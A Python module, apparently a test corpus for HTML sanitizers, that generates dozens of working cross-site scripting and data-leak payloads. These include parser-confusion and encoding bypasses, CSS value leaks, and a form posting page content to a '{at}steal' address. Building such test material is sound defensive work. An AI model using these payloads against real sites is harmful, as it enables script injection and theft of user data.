"""More texts that act in a page that takes them for more than text; each asks the address given."""

from __future__ import annotations

import json


def more_nasty_texts(at: str) -> list[str]:
    """Of attributes, of parsers that disagree, of pictures, styles, formulas and alphabets."""
    act = f"document.title='PWNED';fetch('{at}act');alert(1)"
    image = f'<img src=x onerror="{act}">'
    inside = f"<script>top.{act}</script>"
    fetched = [
        f'<img srcset="{at}a.png 1x, {at}b.png 2x">',
        f'<picture><source srcset="{at}s.png"><img></picture>',
        f'<input type=image src="{at}i.png">',
        f'<video poster="{at}p.png"><track default src="{at}t.vtt"></video>',
        f'<link rel="icon shortcut" href="{at}icon.png">',
        f'<link rel=modulepreload href="{at}m.js"><link rel=manifest href="{at}m.json">',
        f'<link rel=preload as=image imagesrcset="{at}l.png">',
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{at}spec"]}}]}}</script>',
        f'<script type=importmap>{{"imports":{{"a":"{at}a.js"}}}}</script>',
        f"<style>@font-face{{font-family:x;src:url({at}f)}}*{{font-family:x}}</style>",
        f"<style>body{{background:image-set('{at}set.png' 1x)}}</style>",
        f"<style>input[value^=a]{{background:url({at}leak)}}</style>",
        f'<p style="list-style:url({at}l);cursor:url({at}c),auto">x',
        f'<svg><filter><feImage href="{at}fe.png"/></filter></svg>',
        f'<svg><a xlink:href="javascript:{act}"><text y=9>x</text></a></svg>',
        f'<svg><foreignObject><iframe src="{at}fo"></iframe></foreignObject></svg>',
        f'<?xml-stylesheet href="{at}x.xsl" type="text/xsl"?><x/>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{at}dtd">]><x>&e;</x>',
        f"<img src='{at}dangling?",
        f"<meta http-equiv=refresh content='0;url={at}dangling?",
        f'<form action="{at}steal"><input type=submit autofocus><textarea name=all>',
        f'<a href="{at}link" ping="{at}ping" autofocus>click</a>',
        f'<iframe name="{at}" src="{at}frame" allow="*" loading=eager></iframe>',
        f'<portal src="{at}portal"></portal><fencedframe src="{at}f"></fencedframe>',
    ]
    run = [
        f'<iframe src="data:text/html,{inside}"></iframe>',
        f'<iframe src="javascript:top.{act}"></iframe>',
        f'<object data="data:text/html,{inside}" type="text/html"></object>',
        f"<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>\">",
        f'<meta http-equiv=refresh content="0;url=data:text/html,{inside}">',
        f'<meta http-equiv=refresh content="0;url=javascript:{act}">',
        f'<form><button formaction="javascript:{act}" autofocus>go</button></form>',
        f'<svg><set attributeName=x onbegin="{act}"></svg>',
        f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{act}">x',
        f'<p contenteditable autofocus onfocus="{act}" tabindex=0>x',
        f'<select autofocus onfocus="{act}"><option>x</select>',
        f'<audio src onerror="{act}"></audio>',
        f'<noscript><p title="</noscript>{image}"></noscript>',
        f"<math><mtext><table><mglyph><style><!--</style>{image}",
        f"<svg></p><style><a id='</style>{image}'>",
        f"<form><math><mtext></form><form><mglyph><style></math>{image}",
        f"<xmp><p title='</xmp>{image}'>",
        f"<!--><img title='--!>{image}'>",
        f"<![CDATA[>{image}<]]>",
        f"<a title=`{image}`>",
        f"<p\x0conclick=x{image}",
        f"<img/src=x/onerror={act.replace(' ', '')}>",
        f"<IMG SRC=x OnErRoR={act}>",
        f"<script\x0d\x0a>{act}</script\x09>",
        f"<script>/*\u2028*/{act}</script>",
        f"\uff1cscript\uff1e{act}\uff1c/script\uff1e",
        f"<\u017fcript>{act}</\u017fcript><scr\u0130pt>{act}</scr\u0130pt>",
        f"\x1b$B<script>{act}</script>\x1b(B",
        f"\ufffe\uffff\u0085<script>{act}</script>",
        f"\u202etpircs<\u202c{image}\u2066\u2069",
        f"\x00<script>{act}</script>\x08\x7f",
        f"&#60;script&#62;{act}&#60;/script&#62;",
        f"\\u003cscript\\u003e{act}\\u003c/script\\u003e",
        f"%3Cscript%3E{act}%3C/script%3E",
        f"</form><form action='{at}' method=get><input name=student value=all>{image}",
        f'" autofocus onfocus="{act}" x="',
        f"' autofocus onfocus='{act.replace(chr(39), chr(34))}' x='",
        f"</button></section></body></html>{image}",
    ]
    markup = [
        f"[x]: javascript:{act}\n[click][x] ![p][y]\n\n[y]: {at}ref.png",
        f"<{at}auto> {at}plain [a](data:text/html,{inside})",
        f"$$\\require{{html}}\\href{{javascript:{act}}}{{x}}\\cssId{{a}}{{b}}$$",
        f"$\\style{{background:url({at}mj)}}{{x}}\\class{{y}}{{z}}\\unicode{{x3C}}$",
        f"\\begin{{equation}}\\includegraphics{{{at}tex.png}}\\end{{equation}}",
        f"```{{raw}} html\n{image}\n```\n:::{{iframe}} {at}myst\n:::",
        f"{{{{ constructor.constructor('{act}')() }}}} ${{{act}}} <%= {act} %>",
        f"![x](x){{onerror={act}}} <x-y is=z {image}",
        json.dumps({"application/vnd.jupyter.widget-view+json": {"model_id": image}}),
        json.dumps({"iopub": {"text/html": image, "application/javascript": act}}),
    ]
    return fetched + run + markup
